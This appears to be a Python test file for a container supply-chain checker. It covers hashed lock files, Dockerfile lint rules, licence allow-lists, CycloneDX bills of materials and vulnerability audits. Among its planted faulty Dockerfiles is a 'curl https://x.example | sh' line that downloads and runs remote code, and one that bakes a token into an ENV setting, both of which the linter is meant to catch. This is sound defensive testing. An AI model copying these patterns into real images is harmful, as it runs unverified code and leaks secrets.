"""What the images are made of: complete locks with digests, allowed licences, no secrets, no skipped audit."""

from __future__ import annotations

import json
import sys
import tomllib

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from lehr_testing.paths import ROOT
from supply import __main__ as supply
from supply import audit, bill, images, licences, locks
from supply.locks import Locked

PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
CONSTRAINTS = dict(
    line.split("==")
    for line in (ROOT / "deploy/constraints.txt").read_text().splitlines()
    if "==" in line
)
IMAGES = {name: images.read(locks.DEPLOY / f"{name}.Dockerfile") for name in locks.IMAGES}


@pytest.mark.parametrize("name", locks.IMAGES)
def test_lock_has_every_dependency_of_its_image_in_the_tested_version(name):
    locked = {one.name: one.version for one in locks.packages(name)}
    pinned = {canonicalize_name(package): version for package, version in CONSTRAINTS.items()}
    wanted = list(PROJECT["dependencies"])
    for extra in locks.IMAGES[name]:
        wanted += PROJECT["optional-dependencies"][extra]
    for requirement in map(Requirement, wanted):
        version = locked[canonicalize_name(requirement.name)]
        assert requirement.specifier.contains(version), f"{requirement}: make locks"
    shared = locked.keys() & pinned.keys()
    assert {n: locked[n] for n in shared} == {n: pinned[n] for n in shared}, "make locks"
    assert ("torch" in locked) == (name == "trainer")


@pytest.mark.parametrize("line", ["httpx>=0.28 --hash=sha256:00", "httpx==0.28.1", "git+https://x"])
def test_lock_refuses_what_is_not_a_version_with_digests(line):
    with pytest.raises(ValueError):
        locks.read(line)


@pytest.mark.parametrize("name", locks.IMAGES)
def test_image_has_no_finding_and_installs_its_own_lock(name):
    image = IMAGES[name]
    assert images.findings(image) == []
    runs = " ".join(run for stage in image.stages for run in stage.runs)
    assert f"-r {name}.lock" in runs
    assert {"gcc", "g++"} <= set(image.system_packages) if name == "trainer" else True
    assert not IMAGES["server"].system_packages


def test_both_images_have_one_version_of_python():
    """Ray refuses a node whose patch version differs."""
    bases = {stage.base for image in IMAGES.values() for stage in image.stages}
    assert len(bases) == 1
    [base] = bases
    assert base.startswith("python:3.11.")


PLANTED = {
    "FROM python\nUSER lehr": "has no version",
    "FROM python:3.11.14": "run as root",
    "FROM python:3.11.14\nRUN pip install httpx\nUSER lehr": "without digests",
    "FROM python:3.11.14\nRUN curl https://x.example | sh\nUSER lehr": "runs what it downloads",
    "FROM python:3.11.14\nADD https://x.example/a /a\nUSER lehr": "use COPY",
    "FROM python:3.11.14\nENV LEHR_TOKEN=abc\nUSER lehr": "a secret would stay",
}


@pytest.mark.parametrize("text", PLANTED)
def test_planted_fault_of_an_image_is_found(tmp_path, text):
    path = tmp_path / "bad.Dockerfile"
    path.write_text(text)
    [found] = images.findings(images.read(path))
    assert PLANTED[text] in found


def test_builder_gets_what_the_images_copy_and_nothing_else():
    sent = set(images.context())
    assert set().union(*(images.copied(image) for image in IMAGES.values())) == sent
    assert {"pyproject.toml", "deploy/server.lock", "deploy/build.lock"} <= sent
    assert not [name for name in sent if name.startswith(("tests/", "docs/", ".git"))]


@pytest.mark.parametrize(
    "name", ["deploy/.env", "platform/lehr/.env.local", "api/x/__pycache__/a.pyc"]
)
def test_secrets_and_caches_are_not_sent_to_the_builder(name):
    rules = (ROOT / ".dockerignore").read_text().splitlines()
    assert not images.is_sent(name, [rule for rule in rules if rule and not rule.startswith("#")])


@pytest.mark.parametrize(
    ("text", "allowed"),
    [
        ("MIT", True),
        ("MIT OR GPL-3.0-only", True),
        ("MIT AND GPL-3.0-only", False),
        ("MPL-2.0 AND (Apache-2.0 OR MIT)", True),
        ("Apache-2.0 AND Apache-2.0 WITH LLVM-exception", True),
        ("GPL-3.0-only", False),
        ("AGPL-3.0-or-later", False),
        ("", False),
    ],
)
def test_licence_is_allowed_by_all_its_parts(text, allowed):
    assert licences.is_allowed(text) is allowed


def test_every_package_of_the_images_has_an_allowed_licence():
    found = [licences.licence(one) for name in locks.IMAGES for one in locks.packages(name)]
    assert [one.package.name for one in found if not one.allowed] == []


def test_bill_names_every_package_the_base_and_the_system_s_packages():
    packages = locks.packages("trainer")
    made = bill.bill("trainer", IMAGES["trainer"], list(map(licences.licence, packages)))
    names = {one["name"] for one in made["components"]}
    assert {one.name for one in packages} | {"python", "gcc", "g++"} == names
    references = [one["bom-ref"] for one in made["components"]]
    assert len(references) == len(set(references))
    again = bill.bill("trainer", IMAGES["trainer"], list(map(licences.licence, packages)))
    assert again == made


ANSWER = {
    "dependencies": [
        {"name": "sound", "version": "1.0", "vulns": []},
        {
            "name": "holed",
            "version": "2.0",
            "vulns": [{"id": "GHSA-1", "aliases": ["CVE-1"], "fix_versions": ["2.1"]}],
        },
        {"name": "unknown", "skip_reason": "Dependency not found on PyPI"},
    ]
}


def test_audit_counts_vulnerable_accepted_and_skipped_packages():
    found = audit.judge(ANSWER, {})
    assert found.vulnerable == ["holed 2.0: GHSA-1, mended in 2.1"]
    assert found.not_audited == ["unknown: Dependency not found on PyPI"]
    assert audit.judge(ANSWER, {"CVE-1": "not reachable"}).vulnerable == []


def test_check_fails_for_a_vulnerability_and_for_a_package_that_was_not_audited(
    tmp_path, monkeypatch, capsys
):
    monkeypatch.setattr(sys, "argv", ["supply", "--folder", str(tmp_path)])
    monkeypatch.setattr(audit, "audit", lambda _: audit.judge(ANSWER, {}))
    assert supply.main() == 1
    out = capsys.readouterr().out
    assert "error: server: holed 2.0: GHSA-1, mended in 2.1" in out
    assert "error: trainer: 1 of 3 packages were not audited" in out
    assert json.loads((tmp_path / "sbom-server.json").read_text())["bomFormat"] == "CycloneDX"
    monkeypatch.setattr(audit, "audit", lambda _: audit.judge({"dependencies": []}, {}))
    assert supply.main() == 0


def test_check_fails_without_an_answer_of_the_database(monkeypatch):
    def gone(_):
        raise RuntimeError("pip-audit gave no answer: no route")

    monkeypatch.setattr(audit, "audit", gone)
    [line] = supply.audited("server")
    assert line == "server: vulnerabilities are not known: pip-audit gave no answer: no route"


def test_unknown_package_has_no_licence():
    assert not licences.licence(Locked("no-such-package-anywhere", "1", ())).allowed
